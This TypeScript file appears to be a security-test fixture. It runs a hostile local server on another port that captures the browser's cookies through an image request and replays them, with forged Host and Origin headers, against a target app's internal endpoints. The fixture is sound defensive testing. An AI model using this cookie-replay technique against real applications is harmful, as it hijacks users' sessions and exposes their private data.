/**
 * Another account's server on another port of 127.0.0.1, run as its own process: it serves a page
 * with one image and, when the image is asked for, replays the cookies the browser sent with it
 * against the browser host (its origin is argv[2]) the way any program can, forging Host and
 * Origin: a call, the event stream, the page. Prints one JSON line: first its port, then what the
 * replay got.
 */
import { createServer, request } from 'node:http';
import type { AddressInfo } from 'node:net';

const target = new URL(process.argv[2]!);

function replay(
  path: string,
  method: string,
  cookie: string,
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const headers = {
      host: target.host,
      origin: target.origin,
      cookie,
      'content-type': 'application/json',
    };
    const req = request(new URL(path, target), { method, headers }, (res) => {
      let body = '';
      res.on('data', (c: Buffer) => {
        body += c.toString('utf8');
        // The event stream never ends: its first bytes are enough.
        if (path.includes('events')) res.destroy();
      });
      res.on('close', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end(method === 'POST' ? '{}' : undefined);
  });
}

const server = createServer((req, res) => {
  if (req.url !== '/pixel.png') {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    return res.end('<!doctype html><title>another port</title><img src="/pixel.png" alt="">');
  }
  const cookie = req.headers.cookie ?? '';
  void Promise.all([
    replay('/__host/invoke/sites:list', 'POST', cookie),
    replay('/__host/invoke/app:get-info', 'POST', cookie),
    replay('/__host/events', 'POST', cookie),
    replay('/__host/events', 'GET', cookie),
    replay('/', 'GET', cookie),
  ]).then(([sites, info, events, eventsGet, page]) => {
    console.log(JSON.stringify({ cookie, sites, info, events, eventsGet, page }));
    res.writeHead(204);
    res.end();
  });
});
server.listen(0, '127.0.0.1', () =>
  console.log(JSON.stringify({ port: (server.address() as AddressInfo).port })),
);
